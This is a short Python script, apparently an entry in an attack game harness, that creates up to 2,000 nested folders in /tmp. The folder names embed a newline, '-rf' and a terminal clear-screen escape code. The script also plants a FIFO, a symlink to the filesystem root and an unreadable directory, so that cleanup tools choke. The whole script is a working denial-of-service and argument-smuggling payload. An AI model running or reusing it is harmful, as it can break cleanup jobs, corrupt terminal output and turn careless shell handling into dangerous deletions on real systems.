"""Nests folders with endless names so deep that whoever cleans up after it chokes on them."""

import os

import attacker

NAME = "\n-rf \x1b[2J" + "d" * 245


def attack() -> None:
    depth = 0
    os.chdir("/tmp")
    try:
        while depth < 2_000 and attacker.time_left() > 0:
            os.mkdir(NAME)
            os.chdir(NAME)
            depth += 1
        os.mkfifo("fifo")
        os.symlink("/", "root")
        os.mkdir("locked", 0)
    except OSError as error:
        attacker.note(attacker.named(error.errno or 0))
    finally:
        os.chdir("/bot")
    attacker.note(f"{depth} folders deep")


attacker.play(attack)
